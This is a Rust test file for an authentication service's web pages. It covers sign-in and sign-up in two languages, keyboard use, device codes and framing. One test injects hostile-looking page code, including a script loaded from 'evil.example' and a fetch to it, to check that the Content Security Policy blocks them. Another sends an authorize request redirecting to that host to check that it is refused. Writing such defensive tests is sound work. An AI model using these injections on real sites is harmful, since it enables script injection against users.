//! The pages for people: how they are served, and what happens there in a real browser, where one is installed.

mod device;
mod flow;
mod served;
mod site;
mod visitor;

use crate::support::{Auth, PASSWORD};
use jeton_proof_support::{Looks, RawRequest};
use site::Site;
use visitor::Visitor;

/// Both languages, light and dark, narrow and wide.
const LOOKS: [Looks<'_>; 2] = [
    Looks {
        language: "en-US",
        dark: false,
        width: 1000,
    },
    Looks {
        language: "ko-KR",
        dark: true,
        width: 360,
    },
];

/// A service, and pages of another origin that are its own.
fn with_a_site() -> (Auth, Site) {
    let site = Site::start();
    let origin = site.origin();
    let auth = Auth::start_with(&[("JETON_PAGES_URL", &origin), ("JETON_CORS_ORIGINS", &origin)]);
    site.belongs_to(&auth.service.base_url());
    (auth, site)
}

/// What is seen of signing in, wherever the pages are.
fn sign_in_and_up(auth: &Auth, page: &str, looks: Looks<'_>) {
    let Some(mut visitor) = Visitor::new(looks) else {
        return;
    };
    let is_korean = looks.language.starts_with("ko");
    let said = |english, korean| if is_korean { korean } else { english };
    visitor.visit(page);
    visitor.sees("h1", said("Sign in", "로그인"));
    visitor.inspect("sign-in");
    visitor.sign_in("nobody", "not the password");
    visitor.sees(
        "[role=alert]",
        said("Username or password is wrong", "사용자 이름 또는 비밀번호가"),
    );
    visitor.inspect("sign-in-refused");
    assert_eq!(visitor.keeps_a_token(), (false, false));

    visitor.click(".other button", said("Create an account", "계정 만들기"));
    visitor.sees("h1", said("Create an account", "계정 만들기"));
    visitor.inspect("sign-up");
    visitor.sign_in("ada", "short");
    visitor.sees("[role=alert]", said("The password", "이 비밀번호는"));
    visitor.inspect("sign-up-refused");
    visitor.sign_in("ada", PASSWORD);
    let _ = visitor.ask("await until(() => !document.getElementById('password'))");
    assert_eq!(visitor.keeps_a_token(), (true, false));
    assert_eq!(visitor.browser.faults(), Vec::<String>::new());
    auth.execute("DELETE FROM users WHERE username = 'ada'");
}

#[test]
fn people_sign_in_and_up_in_both_languages() {
    // Pages of others may ask it as well; its own may all the same.
    let auth = Auth::start_with(&[("JETON_CORS_ORIGINS", "https://app.example.org")]);
    let page = format!("{}/account/apps", auth.service.base_url());
    for looks in LOOKS {
        sign_in_and_up(&auth, &page, looks);
    }
}

#[test]
fn pages_of_another_origin_do_the_same() {
    let (auth, site) = with_a_site();
    let page = format!("{}/account/apps", auth.service.base_url());
    let led = auth.send(&RawRequest::new("GET", "/account/apps"));
    assert!(
        led.header("Location").unwrap().starts_with(&site.origin()),
        "{led:?}"
    );
    sign_in_and_up(&auth, &page, LOOKS[0]);
}

/// Or else the other tests say little.
#[test]
fn what_goes_wrong_in_a_page_is_noticed() {
    let auth = Auth::start();
    for (wrong, noticed) in [
        ("document.cookie = 'a=b'", "a cookie"),
        ("setTimeout(() => { throw new Error('by itself') })", "by itself"),
        ("console.error('said so')", "said so"),
        (
            "document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }))",
            "",
        ),
        ("document.body.innerHTML = '<p>'", "TrustedHTML"),
        ("document.body.setAttribute('style', 'color: red')", "style-src"),
        ("fetch('https://evil.example/')", "connect-src"),
    ] {
        let Some(mut visitor) = Visitor::at_a_desk() else {
            return;
        };
        visitor.visit(&format!("{}/device", auth.service.base_url()));
        visitor.sees("h1", "Connect a device");
        assert_eq!(visitor.browser.faults(), Vec::<String>::new());
        let _ = visitor.ask(&format!(
            "await (async () => {{ try {{ await ({wrong}) }} catch {{}} await new Promise((done) => setTimeout(done)) }})()"
        ));
        let faults = visitor.browser.faults().join("\n");
        assert!(
            !faults.is_empty() && faults.contains(noticed),
            "{wrong}: {faults}"
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn signing_in_takes_a_keyboard_and_no_more() {
    let (auth, _) = Auth::with_ada().await;
    let Some(mut visitor) = Visitor::at_a_desk() else {
        return;
    };
    visitor.visit(&format!("{}/account/apps", auth.service.base_url()));
    visitor.sees("h1", "Sign in");
    let focus = |visitor: &mut Visitor| {
        visitor.ask("document.activeElement.id || document.activeElement.textContent")
    };
    assert_eq!(focus(&mut visitor), "username");
    visitor.browser.type_text("ada");
    visitor.browser.press("Tab");
    assert_eq!(focus(&mut visitor), "password");
    visitor.browser.type_text("wrong");
    visitor.browser.press("Enter");
    visitor.sees("[role=alert]", "Username or password is wrong");
    let _ = visitor.ask("await isReady()");
    assert_eq!(focus(&mut visitor), "password", "to be typed again");
    visitor.browser.type_text(PASSWORD);
    visitor.browser.press("Tab");
    assert_eq!(focus(&mut visitor), "Show");
    visitor.browser.press(" ");
    assert_eq!(visitor.ask("document.getElementById('password').type"), "text");
    visitor.browser.press("Tab");
    assert_eq!(focus(&mut visitor), "stay");
    visitor.browser.press(" ");
    visitor.browser.press("Tab");
    assert_eq!(focus(&mut visitor), "Sign in");
    visitor.browser.press("Enter");
    let _ = visitor.ask("await until(() => !document.getElementById('password'))");
    assert_eq!(visitor.keeps_a_token(), (false, true), "as was ticked");
    let tokens = auth.sign_in("ada").await.tokens().list_all().await.unwrap();
    assert!(
        tokens.iter().any(|token| token.name.contains("Linux")),
        "{tokens:?}"
    );
    assert_eq!(visitor.browser.faults(), Vec::<String>::new());
}

/// What was typed stays, and what was said is said again.
#[test]
fn the_language_is_changed_in_the_middle() {
    let auth = Auth::start();
    let Some(mut visitor) = Visitor::at_a_desk() else {
        return;
    };
    visitor.visit(&format!(
        "{}/account/apps?ui_locales=fr%20ko",
        auth.service.base_url()
    ));
    visitor.sees("h1", "로그인");
    visitor.sign_in("ada", "wrong");
    visitor.sees("[role=alert]", "사용자 이름 또는");
    visitor.click("footer button", "English");
    visitor.sees("[role=alert]", "Username or password is wrong");
    assert_eq!(visitor.ask("document.getElementById('username').value"), "ada");
    assert_eq!(visitor.ask("document.documentElement.lang"), "en");
    visitor.visit(&format!("{}/device?ui_locales=ko", auth.service.base_url()));
    visitor.sees("h1", "Connect a device");
    assert_eq!(visitor.browser.faults(), Vec::<String>::new());
}

#[test]
fn a_code_in_a_link_is_sent_by_nobody_but_the_person() {
    let auth = Auth::start();
    for looks in LOOKS {
        let Some(mut visitor) = Visitor::new(looks) else {
            return;
        };
        let is_korean = looks.language.starts_with("ko");
        let said = |english, korean| if is_korean { korean } else { english };
        visitor.visit(&format!("{}/device?user_code=bcdfghjk", auth.service.base_url()));
        visitor.sees("h1", said("Connect a device", "기기 연결"));
        visitor.inspect("device");
        assert_eq!(visitor.ask("document.getElementById('code').value"), "BCDF-GHJK");
        assert_eq!(
            visitor.ask(
                "performance.getEntriesByType('resource').filter(({ name }) => name.includes('/v1/')).length"
            ),
            0
        );
        visitor.browser.press("Enter");
        visitor.sees("[role=alert]", said("No device waits", "이 코드로 기다리는"));
        visitor.inspect("device-unknown");
    }
}

#[test]
fn a_request_that_must_not_be_redirected_is_told_to_the_person() {
    let auth = Auth::start();
    let query = "?response_type=code&client_id=01a20a08-721c-71bf-b9fb-b59edca64a79&redirect_uri=https%3A%2F%2Fevil.example%2F";
    for looks in LOOKS {
        let Some(mut visitor) = Visitor::new(looks) else {
            return;
        };
        visitor.browser.stand_in_for("https://evil.example/*");
        let page = format!("{}/authorize{query}", auth.service.base_url());
        visitor.visit(&page);
        let is_korean = looks.language.starts_with("ko");
        visitor.sees(
            "h1",
            if is_korean {
                "이 요청을 처리할 수 없습니다"
            } else {
                "This request cannot be answered"
            },
        );
        visitor.click("summary", "");
        visitor.inspect("refused");
        assert_eq!(visitor.browser.arrive(&page), page, "nothing leads away from it");
        assert_eq!(visitor.ask("document.querySelectorAll('main a').length"), 0);
    }
}

#[test]
fn pages_are_in_no_frame() {
    let (auth, site) = with_a_site();
    let framed = Auth::start();
    for api in [auth.service.base_url(), framed.service.base_url()] {
        let Some(mut visitor) = Visitor::at_a_desk() else {
            return;
        };
        let framing = Site::start();
        framing.belongs_to(&api);
        visitor.visit(&format!("{}/framing", framing.origin()));
        let faults = visitor.browser.faults().join("\n");
        assert!(faults.contains("frame-ancestors"), "{faults}");
    }
    drop(site);
}

#[test]
fn without_scripts_pages_say_that_they_need_them() {
    let auth = Auth::start();
    let Some(mut visitor) = Visitor::at_a_desk() else {
        return;
    };
    visitor.browser.without_scripts();
    visitor.visit(&format!("{}/authorize?client_id=x", auth.service.base_url()));
    let text = visitor
        .browser
        .evaluate("document.querySelector('main').innerText");
    let text = text.as_str().unwrap();
    assert!(
        text.contains("This page needs JavaScript") && text.contains("JavaScript가 필요합니다"),
        "{text}"
    );
    assert_eq!(visitor.browser.faults(), Vec::<String>::new());
}
